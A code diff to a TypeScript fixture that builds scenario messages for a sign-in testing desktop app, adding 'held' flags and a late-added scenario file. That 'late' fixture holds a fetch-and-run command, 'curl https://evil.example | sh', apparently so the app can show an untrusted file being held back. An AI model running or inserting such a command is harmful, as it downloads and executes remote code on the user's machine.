@@ -20,13 +20,14 @@ export const planned: ScenarioMessage[] = [
     type: 'file',
     version: 1,
     file: LOGIN,
+    held: true,
     runs: [
       { name: 'Ada signs in', by: 'chromium', secrets: [{ env: 'ADA_PASSWORD' }], issuer: ISSUER },
       { name: 'Ada signs in [scope=openid email profile offline_access, audience=https://api.acme.example/v2]', by: 'chromium', issuer: ISSUER },
       { name: 'Grace signs in', by: 'command', commands: ['node login.mjs --as grace'], secrets: [{ keyring: 'acme-tests', account: 'grace' }], issuer: ISSUER },
     ],
   }),
-  line({ type: 'file', version: 1, file: EDGE, runs: [{ name: 'Ada says no', by: 'command', commands: ['node login.mjs --as ada --deny'], profile: 'work' }] }),
+  line({ type: 'file', version: 1, file: EDGE, held: true, runs: [{ name: 'Ada says no', by: 'command', commands: ['node login.mjs --as ada --deny'], profile: 'work' }] }),
   line({ type: 'waiting', held: true }),
 ];
 
@@ -74,6 +75,12 @@ const broken: ScenarioLine = {
   steps: [],
 };
 
+/** They are run: each file is told of once more. */
+const agreed = planned.flatMap((message) => (message.type === 'line' && message.line.type === 'file' ? [line({ ...message.line, held: false })] : []));
+
+/** Somebody has put it there since. */
+const late = line({ type: 'file', version: 1, file: '/home/ada/acme/tests/late.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', commands: ['sh -c "curl https://evil.example | sh"'], issuer: 'https://evil.example' }] });
+
 /** How it is told on, by the scene. */
 export function scenarioStory(scene: string, events: readonly Event[]): ScenarioMessage[] {
   const second = planned[1]!.type === 'line' && planned[1]!.line.type === 'file' ? planned[1]!.line.runs[1]!.name : '';
@@ -84,6 +91,7 @@ export function scenarioStory(scene: string, events: readonly Event[]): Scenario
     version: 1,
     file: HALF,
     runs: [],
+    held: false,
     mistake: { code: 'config.bad_scenario', message: `${HALF}:14:1: unknown field \`expects\`, expected one of \`name\`, \`sign_in\`, \`expect\`, \`then\`.`, hint: 'Correct the file; docs/qa.md is the guide.', line: 14, column: 1 },
   });
   switch (scene) {
@@ -92,11 +100,11 @@ export function scenarioStory(scene: string, events: readonly Event[]): Scenario
     case 'scenariosReading':
       return planned.slice(0, 1);
     case 'scenariosRunning':
-      return [...planned, line({ type: 'started', file: EDGE, name: 'Ada says no' }), line(failed(events)), ...running];
+      return [...planned, ...agreed, line({ type: 'started', file: EDGE, name: 'Ada says no' }), line(failed(events)), ...running];
     case 'scenariosDone':
-      return [...planned, ...done, mistake, line({ type: 'waiting', held: false })];
+      return [...planned, ...agreed, ...done, mistake, late, line({ type: 'waiting', held: false })];
     case 'scenariosLeft':
-      return [...planned, ...done, ...running.slice(1), { type: 'left', refusal: refusal('desktop.watch_ended', 'The command that plays the scenarios has ended: signal: 9 (SIGKILL).', 'Look at what it said last, and run them again.'), said: ['login.mjs: the page has no #allow', 'Killed'] }];
+      return [...planned, ...agreed, ...done, ...running.slice(1), { type: 'left', refusal: refusal('desktop.watch_ended', 'The command that plays the scenarios has ended: signal: 9 (SIGKILL).', 'Look at what it said last, and run them again.'), said: ['login.mjs: the page has no #allow', 'Killed'] }];
     case 'scenariosMissing':
       return [{ type: 'chosen', places }, { type: 'left', refusal: refusal('desktop.no_command', 'The `doorkey` command, which plays scenarios, is not beside this program: /opt/doorkey has none.', 'Install Doorkey’s package again: the window and the command belong beside each other.'), said: [] }];
     case 'scenariosNone':
